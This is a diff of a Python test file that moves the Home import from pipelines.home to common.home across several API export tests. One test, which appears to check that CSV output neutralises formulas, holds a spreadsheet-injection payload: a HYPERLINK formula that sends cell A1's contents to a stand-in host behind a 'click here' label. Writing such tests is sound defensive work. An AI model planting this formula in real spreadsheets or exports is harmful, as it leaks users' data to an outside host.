@@ -102,7 +102,7 @@ def test_supplier_without_rows_gets_an_empty_file_with_the_header(tmp_path) -> N
     from api.app import create_app
     from api.keys import create_key
     from api.testing import write_snapshot
-    from pipelines.home import Home
+    from common.home import Home
     from tests.api.conftest import FAST
 
     world = small_world()
@@ -135,7 +135,7 @@ def test_as_of_is_the_platform_day_of_a_zoned_stamp(tmp_path) -> None:
     from api.app import create_app
     from api.keys import create_key
     from api.testing import write_snapshot
-    from pipelines.home import Home
+    from common.home import Home
     from tests.api.conftest import FAST
 
     world = small_world()
@@ -164,7 +164,7 @@ def test_csv_neutralises_formulas_json_and_parquet_stay_raw(tmp_path) -> None:
     from api.app import create_app
     from api.keys import create_key
     from api.testing import write_snapshot
-    from pipelines.home import Home
+    from common.home import Home
     from tests.api.conftest import FAST
 
     evil = '=HYPERLINK("http://x.test/?"&A1,"点此")'
@@ -207,7 +207,7 @@ def test_a_zero_suggestion_with_a_positive_median_says_why(tmp_path) -> None:
     from api.app import create_app
     from api.keys import create_key
     from api.testing import write_snapshot
-    from pipelines.home import Home
+    from common.home import Home
     from tests.api.conftest import FAST
 
     world = small_world()
